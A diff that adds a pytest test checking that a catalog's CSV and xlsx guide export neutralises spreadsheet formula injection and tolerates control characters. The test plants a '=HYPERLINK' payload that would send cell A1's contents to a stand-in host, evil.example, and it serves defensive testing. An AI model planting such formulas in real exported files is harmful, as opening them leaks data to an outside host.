@@ -208,3 +208,31 @@ def test_the_guide_table_holds_every_information_item_with_its_resource(client, 
             assert row["发布日期"] == day.isoformat()
         else:
             assert row["发布日期"] == ""  # not published yet
+
+
+def test_guide_cells_cannot_run_as_formulas_and_odd_characters_do_not_break_it(tmp_path, contracts):
+    """OWASP's CSV injection: a cell starting with = + - @ gets a leading quote; xlsx cells
+    are text. A control character in a contract's text is left out of the sheet, not a
+    500."""
+    import shutil
+
+    import yaml
+
+    from catalog.contracts import load_contracts
+    from catalog.exchange.guide import HEADERS, guide_csv, guide_rows, guide_xlsx
+    from tests.conftest import REPO_ROOT
+
+    schemas = tmp_path / "schemas"
+    shutil.copytree(REPO_ROOT / "schemas", schemas)
+    raw = yaml.safe_load((schemas / "population.yaml").read_text(encoding="utf-8"))
+    raw["catalog"]["summary"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")\v'
+    (schemas / "population.yaml").write_text(yaml.safe_dump(raw, allow_unicode=True), "utf-8")
+    rows = guide_rows(load_contracts(schemas).values(), {}, "Asia/Shanghai")
+    import csv
+    import io
+
+    table = list(csv.reader(io.StringIO(guide_csv(rows).decode("utf-8-sig"))))
+    summaries = {row[HEADERS.index("信息资源摘要")] for row in table[1:]}
+    assert any(s.startswith("'=HYPERLINK") for s in summaries)
+    assert not any(s.startswith("=") for s in summaries)
+    guide_xlsx(rows)  # writes, control character and all
